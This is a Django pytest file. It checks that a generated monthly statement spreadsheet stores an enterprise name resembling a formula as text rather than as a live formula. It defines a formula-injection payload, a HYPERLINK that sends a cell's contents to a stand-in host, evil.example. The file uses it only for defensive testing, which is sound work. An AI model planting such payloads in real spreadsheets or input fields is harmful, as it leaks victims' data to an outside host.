"""The monthly statement .xlsx goes through the one writer: an enterprise named like a formula is
written as its name, never as a live formula (issue #11, defect 8)."""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from typing import Any

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from shouzhan.core.roles import Role
from shouzhan.spaces import services

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?d="&A3,"点此查看")'


def test_a_formula_like_name_stays_text_in_the_statement(
    make_enterprise: Any, make_user: Any, login_client: Any, catalogue: Any, desk: Any
) -> None:
    ent, owner = make_enterprise(name=EVIL, district="徐汇", is_startup=True, in_cluster=True)
    first = timezone.localdate().replace(day=1)
    services.tenancy_start(
        actor=make_user(role=Role.CASEWORKER), enterprise=ent, resource=desk, start_on=first, months=12
    )
    response = login_client(owner).get(f"/spaces/statement/{ent.pk}/{first.year}/{first.month}.xlsx")
    assert response.status_code == 200
    ws = load_workbook(io.BytesIO(response.content)).active
    title = ws["A1"]
    assert (title.data_type, title.value) == ("s", f"{EVIL} {first.year}年{first.month}月 空间费用对账单")
    line = [(c.value, c.data_type) for c in ws[3]]
    assert line[0] == (dt.datetime(first.year, first.month, first.day), "d")
    assert line[3:6] == [(800, "n"), (800, "n"), (0, "n")]  # numbers stay numbers
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<v>800.00</v>" in xml
